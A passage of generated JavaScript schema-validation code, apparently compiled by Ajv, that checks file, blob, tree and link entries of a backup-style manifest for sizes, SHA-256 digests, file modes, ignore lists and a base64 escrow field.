{instancePath:instancePath+"/expect/mode",schemaPath:"#/$defs/mode/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}}else {const err12 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}}if(data.escrow !== undefined){let data5 = data.escrow;if(data5 && typeof data5 == "object" && !Array.isArray(data5)){if(data5.encoding === undefined){const err13 = {instancePath:instancePath+"/escrow",schemaPath:"#/properties/escrow/required",keyword:"required",params:{missingProperty: "encoding"},message:"must have required property '"+"encoding"+"'"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}if(data5.data === undefined){const err14 = {instancePath:instancePath+"/escrow",schemaPath:"#/properties/escrow/required",keyword:"required",params:{missingProperty: "data"},message:"must have required property '"+"data"+"'"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}for(const key1 in data5){if(!((key1 === "encoding") || (key1 === "data"))){const err15 = {instancePath:instancePath+"/escrow",schemaPath:"#/properties/escrow/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;}}if(data5.encoding !== undefined){if("deflate-base64" !== data5.encoding){const err16 = {instancePath:instancePath+"/escrow/encoding",schemaPath:"#/properties/escrow/properties/encoding/const",keyword:"const",params:{allowedValue: "deflate-base64"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}}if(data5.data !== undefined){let data7 = data5.data;if(typeof data7 === "string"){if(func1(data7) > 1048576){const err17 = {instancePath:instancePath+"/escrow/data",schemaPath:"#/properties/escrow/properties/data/maxLength",keyword:"maxLength",params:{limit: 1048576},message:"must NOT have more than 1048576 characters"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}if(!pattern13.test(data7)){const err18 = {instancePath:instancePath+"/escrow/data",schemaPath:"#/properties/escrow/properties/data/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9+/]*={0,2}$"},message:"must match pattern \""+"^[A-Za-z0-9+/]*={0,2}$"+"\""};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;}}else {const err19 = {instancePath:instancePath+"/escrow/data",schemaPath:"#/properties/escrow/properties/data/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}}}else {const err20 = {instancePath:instancePath+"/escrow",schemaPath:"#/properties/escrow/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}}for(const key2 in data){if(((((((((((((key2 !== "kind") && (key2 !== "expect")) && (key2 !== "escrow")) && (key2 !== "id")) && (key2 !== "path")) && (key2 !== "tier")) && (key2 !== "needs")) && (key2 !== "restore")) && (key2 !== "timeout_s")) && (key2 !== "env")) && (key2 !== "secret_env")) && (key2 !== "smoke")) && (key2 !== "note")){const err21 = {instancePath,schemaPath:"#/unevaluatedProperties",keyword:"unevaluatedProperties",params:{unevaluatedProperty: key2},message:"must NOT have unevaluated properties"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}}}validate23.errors = vErrors;return errors === 0;}validate23.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};const schema43 = {"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"blob"},"expect":{"type":"object","additionalProperties":false,"required":["size","headtail"],"properties":{"size":{"$ref":"#/$defs/size"},"headtail":{"$ref":"#/$defs/sha256"},"sha256":{"$ref":"#/$defs/sha256"},"mode":{"$ref":"#/$defs/mode"}}}}};function validate27(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate27.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(!(validate24(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate24.errors : vErrors.concat(validate24.errors);errors = vErrors.length;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("blob" !== data.kind){const err0 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/const",keyword:"const",params:{allowedValue: "blob"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}}if(data.expect !== undefined){let data1 = data.expect;if(data1 && typeof data1 == "object" && !Array.isArray(data1)){if(data1.size === undefined){const err1 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "size"},message:"must have required property '"+"size"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}if(data1.headtail === undefined){const err2 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "headtail"},message:"must have required property '"+"headtail"+"'"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}for(const key0 in data1){if(!((((key0 === "size") || (key0 === "headtail")) || (key0 === "sha256")) || (key0 === "mode"))){const err3 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}}if(data1.size !== undefined){let data2 = data1.size;if(!(((typeof data2 == "number") && (!(data2 % 1) && !isNaN(data2))) && (isFinite(data2)))){const err4 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}if((typeof data2 == "number") && (isFinite(data2))){if(data2 > 9007199254740991 || isNaN(data2)){const err5 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}if(data2 < 0 || isNaN(data2)){const err6 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}}if(data1.headtail !== undefined){let data3 = data1.headtail;if(typeof data3 === "string"){if(!pattern11.test(data3)){const err7 = {instancePath:instancePath+"/expect/headtail",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}else {const err8 = {instancePath:instancePath+"/expect/headtail",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}}if(data1.sha256 !== undefined){let data4 = data1.sha256;if(typeof data4 === "string"){if(!pattern11.test(data4)){const err9 = {instancePath:instancePath+"/expect/sha256",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}}else {const err10 = {instancePath:instancePath+"/expect/sha256",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}}if(data1.mode !== undefined){let data5 = data1.mode;if(typeof data5 === "string"){if(!pattern12.test(data5)){const err11 = {instancePath:instancePath+"/expect/mode",schemaPath:"#/$defs/mode/pattern",keyword:"pattern",params:{pattern: "^[0-7]{4}$"},message:"must match pattern \""+"^[0-7]{4}$"+"\""};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}else {const err12 = {instancePath:instancePath+"/expect/mode",schemaPath:"#/$defs/mode/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}}}else {const err13 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}}for(const key1 in data){if((((((((((((key1 !== "kind") && (key1 !== "expect")) && (key1 !== "id")) && (key1 !== "path")) && (key1 !== "tier")) && (key1 !== "needs")) && (key1 !== "restore")) && (key1 !== "timeout_s")) && (key1 !== "env")) && (key1 !== "secret_env")) && (key1 !== "smoke")) && (key1 !== "note")){const err14 = {instancePath,schemaPath:"#/unevaluatedProperties",keyword:"unevaluatedProperties",params:{unevaluatedProperty: key1},message:"must NOT have unevaluated properties"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}}validate27.errors = vErrors;return errors === 0;}validate27.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};const schema48 = {"$ref":"#/$defs/common","unevaluatedProperties":false,"required":["ignore"],"properties":{"kind":{"const":"tree"},"ignore":{"description":"Directory or file names, or globs relative to the tree, left out of the walk.","type":"array","maxItems":256,"uniqueItems":true,"items":{"type":"string","minLength":1,"maxLength":1024}},"expect":{"type":"object","additionalProperties":false,"required":["sentinels","min_files"],"properties":{"sentinels":{"type":"array","maxItems":1024,"uniqueItems":true,"items":{"$ref":"#/$defs/relpath"}},"min_files":{"$ref":"#/$defs/size"},"max_files":{"$ref":"#/$defs/size"},"files":{"$ref":"#/$defs/size"},"meta_digest":{"$ref":"#/$defs/sha256"},"content_digest":{"$ref":"#/$defs/sha256"},"index":{"type":"object","additionalProperties":false,"required":["sha256","entries"],"properties":{"sha256":{"$ref":"#/$defs/sha256"},"entries":{"$ref":"#/$defs/size"}}}},"description":"A tree imported from format 2 may lack max_files, files and digests until it is captured again; it is then checked by sentinels and min_files only."}}};function validate30(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate30.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(!(validate24(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate24.errors : vErrors.concat(validate24.errors);errors = vErrors.length;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.ignore === undefined){const err0 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "ignore"},message:"must have required property '"+"ignore"+"'"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}if(data.kind !== undefined){if("tree" !== data.kind){const err1 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/const",keyword:"const",params:{allowedValue: "tree"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}}if(data.ignore !== undefined){let data1 = data.ignore;if(Array.isArray(data1)){if(data1.length > 256){const err2 = {instancePath:instancePath+"/ignore",schemaPath:"#/properties/ignore/maxItems",keyword:"maxItems",params:{limit: 256},message:"must NOT have more than 256 items"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}const len0 = data1.length;for(let i0=0; i0<len0; i0++){let data2 = data1[i0];if(typeof data2 === "string"){if(func1(data2) > 1024){const err3 = {instancePath:instancePath+"/ignore/" + i0,schemaPath:"#/properties/ignore/items/maxLength",keyword:"maxLength",params:{limit: 1024},message:"must NOT have more than 1024 characters"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(func1(data2) < 1){const err4 = {instancePath:instancePath+"/ignore/" + i0,schemaPath:"#/properties/ignore/items/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}}else {const err5 = {instancePath:instancePath+"/ignore/" + i0,schemaPath:"#/properties/ignore/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}}let i1 = data1.length;let j0;if(i1 > 1){const indices0 = {};for(;i1--;){let item0 = data1[i1];if(typeof item0 !== "string"){continue;}if(typeof indices0[item0] == "number"){j0 = indices0[item0];const err6 = {instancePath:instancePath+"/ignore",schemaPath:"#/properties/ignore/uniqueItems",keyword:"uniqueItems",params:{i: i1, j: j0},message:"must NOT have duplicate items (items ## "+j0+" and "+i1+" are identical)"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;break;}indices0[item0] = i1;}}}else {const err7 = {instancePath:instancePath+"/ignore",schemaPath:"#/properties/ignore/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}if(data.expect !== undefined){let data3 = data.expect;if(data3 && typeof data3 == "object" && !Array.isArray(data3)){if(data3.sentinels === undefined){const err8 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "sentinels"},message:"must have required property '"+"sentinels"+"'"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}if(data3.min_files === undefined){const err9 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "min_files"},message:"must have required property '"+"min_files"+"'"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}for(const key0 in data3){if(!(((((((key0 === "sentinels") || (key0 === "min_files")) || (key0 === "max_files")) || (key0 === "files")) || (key0 === "meta_digest")) || (key0 === "content_digest")) || (key0 === "index"))){const err10 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}}if(data3.sentinels !== undefined){let data4 = data3.sentinels;if(Array.isArray(data4)){if(data4.length > 1024){const err11 = {instancePath:instancePath+"/expect/sentinels",schemaPath:"#/properties/expect/properties/sentinels/maxItems",keyword:"maxItems",params:{limit: 1024},message:"must NOT have more than 1024 items"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}const len1 = data4.length;for(let i2=0; i2<len1; i2++){let data5 = data4[i2];if(typeof data5 === "string"){if(func1(data5) > 4096){const err12 = {instancePath:instancePath+"/expect/sentinels/" + i2,schemaPath:"#/$defs/relpath/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}if(func1(data5) < 1){const err13 = {instancePath:instancePath+"/expect/sentinels/" + i2,schemaPath:"#/$defs/relpath/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}}else {const err14 = {instancePath:instancePath+"/expect/sentinels/" + i2,schemaPath:"#/$defs/relpath/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}let i3 = data4.length;let j1;if(i3 > 1){outer0:for(;i3--;){for(j1 = i3; j1--;){if(func0(data4[i3], data4[j1])){const err15 = {instancePath:instancePath+"/expect/sentinels",schemaPath:"#/properties/expect/properties/sentinels/uniqueItems",keyword:"uniqueItems",params:{i: i3, j: j1},message:"must NOT have duplicate items (items ## "+j1+" and "+i3+" are identical)"};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;break outer0;}}}}}else {const err16 = {instancePath:instancePath+"/expect/sentinels",schemaPath:"#/properties/expect/properties/sentinels/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}}if(data3.min_files !== undefined){let data6 = data3.min_files;if(!(((typeof data6 == "number") && (!(data6 % 1) && !isNaN(data6))) && (isFinite(data6)))){const err17 = {instancePath:instancePath+"/expect/min_files",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}if((typeof data6 == "number") && (isFinite(data6))){if(data6 > 9007199254740991 || isNaN(data6)){const err18 = {instancePath:instancePath+"/expect/min_files",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;}if(data6 < 0 || isNaN(data6)){const err19 = {instancePath:instancePath+"/expect/min_files",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}}}if(data3.max_files !== undefined){let data7 = data3.max_files;if(!(((typeof data7 == "number") && (!(data7 % 1) && !isNaN(data7))) && (isFinite(data7)))){const err20 = {instancePath:instancePath+"/expect/max_files",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}if((typeof data7 == "number") && (isFinite(data7))){if(data7 > 9007199254740991 || isNaN(data7)){const err21 = {instancePath:instancePath+"/expect/max_files",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}if(data7 < 0 || isNaN(data7)){const err22 = {instancePath:instancePath+"/expect/max_files",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err22];}else {vErrors.push(err22);}errors++;}}}if(data3.files !== undefined){let data8 = data3.files;if(!(((typeof data8 == "number") && (!(data8 % 1) && !isNaN(data8))) && (isFinite(data8)))){const err23 = {instancePath:instancePath+"/expect/files",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err23];}else {vErrors.push(err23);}errors++;}if((typeof data8 == "number") && (isFinite(data8))){if(data8 > 9007199254740991 || isNaN(data8)){const err24 = {instancePath:instancePath+"/expect/files",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err24];}else {vErrors.push(err24);}errors++;}if(data8 < 0 || isNaN(data8)){const err25 = {instancePath:instancePath+"/expect/files",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err25];}else {vErrors.push(err25);}errors++;}}}if(data3.meta_digest !== undefined){let data9 = data3.meta_digest;if(typeof data9 === "string"){if(!pattern11.test(data9)){const err26 = {instancePath:instancePath+"/expect/meta_digest",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err26];}else {vErrors.push(err26);}errors++;}}else {const err27 = {instancePath:instancePath+"/expect/meta_digest",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err27];}else {vErrors.push(err27);}errors++;}}if(data3.content_digest !== undefined){let data10 = data3.content_digest;if(typeof data10 === "string"){if(!pattern11.test(data10)){const err28 = {instancePath:instancePath+"/expect/content_digest",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err28];}else {vErrors.push(err28);}errors++;}}else {const err29 = {instancePath:instancePath+"/expect/content_digest",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err29];}else {vErrors.push(err29);}errors++;}}if(data3.index !== undefined){let data11 = data3.index;if(data11 && typeof data11 == "object" && !Array.isArray(data11)){if(data11.sha256 === undefined){const err30 = {instancePath:instancePath+"/expect/index",schemaPath:"#/properties/expect/properties/index/required",keyword:"required",params:{missingProperty: "sha256"},message:"must have required property '"+"sha256"+"'"};if(vErrors === null){vErrors = [err30];}else {vErrors.push(err30);}errors++;}if(data11.entries === undefined){const err31 = {instancePath:instancePath+"/expect/index",schemaPath:"#/properties/expect/properties/index/required",keyword:"required",params:{missingProperty: "entries"},message:"must have required property '"+"entries"+"'"};if(vErrors === null){vErrors = [err31];}else {vErrors.push(err31);}errors++;}for(const key1 in data11){if(!((key1 === "sha256") || (key1 === "entries"))){const err32 = {instancePath:instancePath+"/expect/index",schemaPath:"#/properties/expect/properties/index/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err32];}else {vErrors.push(err32);}errors++;}}if(data11.sha256 !== undefined){let data12 = data11.sha256;if(typeof data12 === "string"){if(!pattern11.test(data12)){const err33 = {instancePath:instancePath+"/expect/index/sha256",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err33];}else {vErrors.push(err33);}errors++;}}else {const err34 = {instancePath:instancePath+"/expect/index/sha256",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err34];}else {vErrors.push(err34);}errors++;}}if(data11.entries !== undefined){let data13 = data11.entries;if(!(((typeof data13 == "number") && (!(data13 % 1) && !isNaN(data13))) && (isFinite(data13)))){const err35 = {instancePath:instancePath+"/expect/index/entries",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err35];}else {vErrors.push(err35);}errors++;}if((typeof data13 == "number") && (isFinite(data13))){if(data13 > 9007199254740991 || isNaN(data13)){const err36 = {instancePath:instancePath+"/expect/index/entries",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err36];}else {vErrors.push(err36);}errors++;}if(data13 < 0 || isNaN(data13)){const err37 = {instancePath:instancePath+"/expect/index/entries",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err37];}else {vErrors.push(err37);}errors++;}}}}else {const err38 = {instancePath:instancePath+"/expect/index",schemaPath:"#/properties/expect/properties/index/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err38];}else {vErrors.push(err38);}errors++;}}}else {const err39 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err39];}else {vErrors.push(err39);}errors++;}}for(const key2 in data){if(((((((((((((key2 !== "kind") && (key2 !== "ignore")) && (key2 !== "expect")) && (key2 !== "id")) && (key2 !== "path")) && (key2 !== "tier")) && (key2 !== "needs")) && (key2 !== "restore")) && (key2 !== "timeout_s")) && (key2 !== "env")) && (key2 !== "secret_env")) && (key2 !== "smoke")) && (key2 !== "note")){const err40 = {instancePath,schemaPath:"#/unevaluatedProperties",keyword:"unevaluatedProperties",params:{unevaluatedProperty: key2},message:"must NOT have unevaluated properties"};if(vErrors === null){vErrors = [err40];}else {vErrors.push(err40);}errors++;}}}validate30.errors = vErrors;return errors === 0;}validate30.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};const schema57 = {"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"link"},"expect":{"type":"object","additionalProperties":false,"required":["target"],"properties":{"target":{"type":"string","minLength":1,"maxLength":4096}}}}};function validate33(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate33.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(!(validate24(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate24.errors : vErrors.concat(validate24.errors);errors = vErrors.length;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("link" !== data.kind){const err0 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/const",keyword:"const",params:{allowedValue: "link"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}}if(data.expect !== undefined){let data1 = data.expect;if(data1 && typeof data1 == "object" && !Array.isArray(data1)){if(data1.target === undefined){const err1 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "target"},message:"must have required property '"+"target"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}for(const key0 in data1){if(!(key0 === "target")){const err2 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}}if(data1.target !== undefined){let data2 = data1.target;if(typeof data2 === "string"){if(func1(data2) > 4096){const err3 = {instancePath:instancePath+"/expect/target",schemaPath:"#/properties/expect/properties/target/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(func1(data2) < 1){const err4 = {instancePath:instancePath+"/expect/target",schemaPath:"#/properties/expect/properties/target/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}}else {const err5 = {instancePath:instancePath+"/expect/target",schemaPath:"#/properties/expect/properties/target/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}}}else {const err6 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}for(const key1 in data){if((((((((((((key1 !== "kind") && (key1 !== "expect")) && (key1 !== "id")) && (key1 !== "path")) && (key1 !== "tier")) && (key1 !== "needs")) && (key1 !== "restore")) && (key1 !== "timeout_s")) && (key1 !== "env")) && (key1 !== "secret_env")) && (key1 !== "smoke")) && (key1 !== "note")){const err7 = {instancePath,schemaPath:"#/unevaluatedProperties",keyword:"unevaluatedProperties",params:{unevaluatedProperty: key1},message:"must NOT have unevaluated properties"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}}validate33.errors = vErrors;return errors === 0;}validate33.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};function validate22(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate22.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}const _errs2 = errors;let valid1 = true;const _errs3 = errors;if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("file" !== data.kind){const err0 = {};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}}}var _valid0 = _errs3 === errors;errors = _errs2;if(vErrors !== null){if(_errs2){vErrors.length = _errs2;}else {vErrors = null;}}if(_valid0){const _errs5 = errors;if(!(validate23(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate23.errors : vErrors.concat(validate23.errors);errors = vErrors.length;}var _valid0 = _errs5 === errors;valid1 = _valid0;if(valid1){var props0 = true;}}if(!valid1){const err1 = {instancePath,schemaPath:"#/allOf/0/if",keyword:"if",params:{failingKeyword: "then"},message:"must match \"then\" schema"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}const _errs7 = errors;let valid3 = true;const _errs8 = errors;if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("blob" !== data.kind){const err2 = {};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}}}var _valid1 = _errs8 === errors;errors = _errs7;if(vErrors !== null){if(_errs7){vErrors.length = _errs7;}else {vErrors = null;}}if(_valid1){const _errs10 = errors;if(!(validate27(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate27.errors : vErrors.concat(validate27.errors);errors = vErrors.length;}var _valid1 = _errs10 === errors;valid3 = _valid1;if(valid3){var props1 = true;}}if(!valid3){const err3 = {instancePath,schemaPath:"#/allOf/1/if",keyword:"if",params:{failingKeyword: "then"},message:"must match \"then\" schema"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(props0 !== true && props1 !== undefined){if(props1 === true){props0 = true;}else {props0 = props0 || {};Object.assign(props0, props1);}}const _errs12 = errors;let valid5 = true;const _errs13 = errors;if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("tree" !== data.kind){const err4 = {};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}}}var _valid2 = _errs13 === errors;errors = _errs12;if(vErrors !== null){if(_errs12){vErrors.length = _errs12;}else {vErrors = null;}}if(_valid2){const _errs15 = errors;if(!(validate30(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate30.errors : 